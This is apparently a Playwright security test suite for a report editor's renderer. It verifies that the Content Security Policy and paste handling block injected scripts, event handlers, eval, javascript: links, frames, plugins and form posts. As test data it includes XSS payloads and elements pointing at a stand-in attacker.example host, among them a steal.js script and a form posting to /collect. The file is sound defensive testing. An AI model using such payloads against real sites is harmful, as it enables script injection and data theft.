import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { reportToJSON, serializeReport, reportFromJSON } from '../../src/core/report-file'
import { newReport } from '../../src/core/template'
import { browserAvailable, useApp } from './browser'

/**
 * The renderer's defences, proved in Chromium against the browser harness
 * (which serves the built renderer with the app's Content Security Policy):
 * injected scripts, event handlers, eval, frames, plugins and form posts are
 * blocked by the CSP; hostile HTML pasted into the editor runs nothing; a link
 * in a report never navigates the app or opens a window, and leaves the app
 * only for http(s) or mailto, through the host. (The Electron-level locks on
 * navigation and window.open are checked against a stand-in Electron in
 * tests/main/shell.test.ts.)
 */

const run = browserAvailable('e2e security') ? describe : describe.skip

const SAFE_LINK = 'https://www.unodc.org/unodc/en/treaties/CTOC/'
const SCRIPT_LINK = 'javascript:window.__pwned="link"'

/** A report whose first chapter holds a paragraph with a web link and a script link. */
function hostileReportText(): string {
  const json = reportToJSON(newReport('en')) as unknown as {
    doc: { content: Array<{ content: unknown[] }> }
  }
  json.doc.content[0].content.push({
    type: 'numbered_paragraph',
    attrs: { id: 'links' },
    content: [
      { type: 'text', text: 'See ' },
      {
        type: 'text',
        text: 'the Convention',
        marks: [{ type: 'link', attrs: { href: SAFE_LINK } }]
      },
      { type: 'text', text: ' and ' },
      { type: 'text', text: 'this trap', marks: [{ type: 'link', attrs: { href: SCRIPT_LINK } }] },
      { type: 'text', text: '.' }
    ]
  })
  return serializeReport(reportFromJSON(json))
}

/** Everything in the page that would show an attack succeeded. */
function pwned(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null)
}

run('the renderer under attack', () => {
  const app = useApp()
  const popups: string[] = []
  const navigations: string[] = []

  beforeAll(async () => {
    const { page, harness } = app.session
    page.context().on('page', (popup) => popups.push(popup.url()))
    page.on('framenavigated', (frame) => {
      if (frame === page.mainFrame()) navigations.push(frame.url())
    })
    page.on('dialog', (dialog) => void dialog.dismiss())
    // The page records every CSP violation it sees.
    await page.evaluate(() => {
      const seen: string[] = []
      ;(window as unknown as { __violations: string[] }).__violations = seen
      document.addEventListener('securitypolicyviolation', (event) =>
        seen.push(event.effectiveDirective)
      )
    })
    const file = join(harness.documentsDir, 'hostile.rapporteur')
    await writeFile(file, hostileReportText())
    harness.dialogs.nextOpen(file)
    harness.sendMenuCommand('open')
    await page.locator('.ProseMirror a', { hasText: 'the Convention' }).waitFor()
  })

  async function violations(): Promise<string[]> {
    return app.session.page.evaluate(
      () => (window as unknown as { __violations: string[] }).__violations
    )
  }

  it('blocks an injected inline script', async () => {
    const { page } = app.session
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.__pwned = "inline script"'
      document.head.append(script)
    })
    await expect.poll(violations).toContain('script-src-elem')
    expect(await pwned(page)).toBeNull()
  })

  it('blocks inline event handlers, eval and javascript: URLs', async () => {
    const { page } = app.session
    await page.evaluate(() => {
      const holder = document.createElement('div')
      holder.innerHTML = '<img src="data:," onerror="window.__pwned=1" onload="window.__pwned=1">'
      document.body.append(holder)
      // Compiled by the page itself when the timer fires (page.evaluate's own code may eval
      // under DevTools' CSP exemption, so a string timer is what tests the page's rule).
      const stringTimer = setTimeout as unknown as (code: string, ms: number) => number
      stringTimer('window.__pwned = "string timer"', 0)
      const anchor = document.createElement('a')
      anchor.href = 'javascript:window.__pwned="javascript url"'
      document.body.append(anchor)
      anchor.click()
    })
    await expect.poll(violations).toEqual(expect.arrayContaining(['script-src-attr', 'script-src']))
    expect(await pwned(page)).toBeNull()
  })

  it('never navigates or opens a window when a link is clicked, middle-clicked or shift-clicked', async () => {
    const { page } = app.session
    const link = page.locator('.ProseMirror a', { hasText: 'the Convention' })
    const before = navigations.length
    await link.click()
    await link.click({ button: 'middle' })
    await link.click({ modifiers: ['Shift'] })
    await page.waitForTimeout(300)
    expect(popups).toEqual([])
    expect(navigations.length).toBe(before)
    expect(page.url()).toBe(app.session.harness.url)
  })

  it('runs nothing from hostile HTML pasted into the report', async () => {
    const { page } = app.session
    // In a paragraph of its own, under another chapter's heading.
    await page
      .locator('.ProseMirror .heading-text', { hasText: 'Summary of deliberations' })
      .click()
    await page.keyboard.press('End')
    await page.keyboard.press('Enter')
    const html =
      '<p>pasted <img src="x" onerror="window.__pwned=\'paste\'">text</p>' +
      '<script>window.__pwned="paste script"</script>' +
      '<iframe src="https://attacker.example/"></iframe>' +
      '<p><a href="javascript:window.__pwned=\'pasted link\'">click</a></p>' +
      '<svg><script>window.__pwned="svg"</script></svg>'
    await page.evaluate((content) => {
      const data = new DataTransfer()
      data.setData('text/html', content)
      data.setData('text/plain', 'pasted text')
      document
        .querySelector('.ProseMirror')!
        .dispatchEvent(
          new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true })
        )
    }, html)
    await expect.poll(() => page.locator('.ProseMirror').textContent()).toContain('pasted')
    expect(
      await page.locator('.ProseMirror script, .ProseMirror iframe, .ProseMirror svg').count()
    ).toBe(0)
    expect(await pwned(page)).toBeNull()
  })

  it('opens a web link only through the host, and never a script link', async () => {
    const { page, harness } = app.session
    await page
      .locator('.ProseMirror a', { hasText: 'the Convention' })
      .click({ modifiers: ['Control'] })
    await expect.poll(() => harness.openedExternally).toEqual([SAFE_LINK])
    await page.locator('.ProseMirror a', { hasText: 'this trap' }).click({ modifiers: ['Control'] })
    // The script link pasted earlier, if the paste kept it as a link at all.
    const pasted = page.locator('.ProseMirror a', { hasText: 'click' })
    if ((await pasted.count()) > 0) await pasted.first().click({ modifiers: ['Control'] })
    await page.waitForTimeout(300)
    expect(harness.openedExternally).toEqual([SAFE_LINK])
    expect(await pwned(page)).toBeNull()
    expect(popups).toEqual([])
    expect(page.url()).toBe(harness.url)
  })

  // Last: the blocked form post leaves the page in a state Playwright waits on.
  it('loads no foreign script, frame or plugin, and posts no form', async () => {
    const { page } = app.session
    const before = navigations.length
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://attacker.example/steal.js'
      const frame = document.createElement('iframe')
      frame.src = 'https://attacker.example/'
      const plugin = document.createElement('object')
      plugin.data = 'https://attacker.example/x.swf'
      const form = document.createElement('form')
      form.action = 'https://attacker.example/collect'
      form.method = 'post'
      document.body.append(script, frame, plugin, form)
      form.submit()
    })
    await expect
      .poll(violations)
      .toEqual(
        expect.arrayContaining(['script-src-elem', 'frame-src', 'object-src', 'form-action'])
      )
    expect(navigations.length).toBe(before)
    expect(page.url()).toBe(app.session.harness.url)
  })
})
